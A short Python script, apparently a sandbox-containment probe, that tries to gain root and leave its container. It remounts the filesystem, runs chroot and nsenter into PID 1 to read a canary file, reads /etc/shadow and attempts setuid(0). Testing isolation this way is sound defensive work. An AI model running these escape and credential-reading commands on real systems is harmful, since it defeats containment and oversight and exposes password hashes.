"""Take more rights: remount, chroot out, other users, programs that run as root."""

import os
import subprocess

for command in (
    "mount -o remount,rw /",
    "mount --bind / /tmp",
    "unshare -r sh -c 'mount -t tmpfs none /usr'",
    "chroot /proc/1/root cat $COURSE/course/canary.txt",
    "nsenter -t 1 -a cat $COURSE/course/canary.txt",
    "su -c 'cat /etc/shadow'",
    "cat /etc/shadow",
):
    done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=10)
    print(command, done.returncode, done.stdout[:100])
for change in (os.setuid, os.setgid):
    try:
        change(0)
        print("CANARY-ROOT")
    except OSError:
        pass
